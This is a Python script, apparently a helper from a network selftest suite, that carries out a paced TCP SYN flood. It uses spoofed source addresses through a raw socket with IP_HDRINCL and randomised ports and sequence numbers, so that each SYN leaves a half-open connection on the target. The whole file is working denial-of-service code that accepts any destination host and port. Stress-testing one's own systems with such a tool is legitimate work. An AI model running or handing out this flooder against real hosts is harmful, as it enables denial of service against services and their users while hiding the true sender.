#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""A paced TCP SYN flood from spoofed sources (a raw socket, IP_HDRINCL).

  synflood.py --dst A --port P --rate N --duration S [--src-net 10.0.1.0/24]

Sources are random hosts of --src-net (leaving out .0, .1, .2 and .255)
with random ports; nobody answers the servers' SYN-ACKs, so every SYN
leaves a half-open connection behind. Prints the number of SYNs sent.
"""
import argparse
import ipaddress
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                "..", "..", "tests", "selftests", "tools"))
from packet_storm import csum  # noqa: E402  (the Internet checksum)


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02,
                      64240, 0, 0)
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp),
                     random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0,
                     src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--rate", type=float, required=True, help="SYNs per second")
    ap.add_argument("--duration", type=float, required=True)
    ap.add_argument("--src-net", default="10.0.1.0/24")
    args = ap.parse_args()

    net = ipaddress.ip_network(args.src_net)
    hosts = [h.packed for h in net.hosts()
             if int(h) - int(net.network_address) > 2][:-1] or \
        [net.network_address.packed]
    dst = socket.inet_aton(args.dst)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    t0 = time.monotonic()
    sent = 0
    while True:
        now = time.monotonic() - t0
        if now >= args.duration:
            break
        due = int(now * args.rate) + 1
        while sent < due:
            pkt = syn(random.choice(hosts), dst, random.randint(1024, 65535),
                      args.port, random.getrandbits(32))
            try:
                s.sendto(pkt, (args.dst, 0))
            except OSError:
                pass
            sent += 1
        time.sleep(min(0.01, 1.0 / args.rate))
    print("synflood: %d SYNs to %s:%d in %.1f s" %
          (sent, args.dst, args.port, time.monotonic() - t0))


if __name__ == "__main__":
    main()
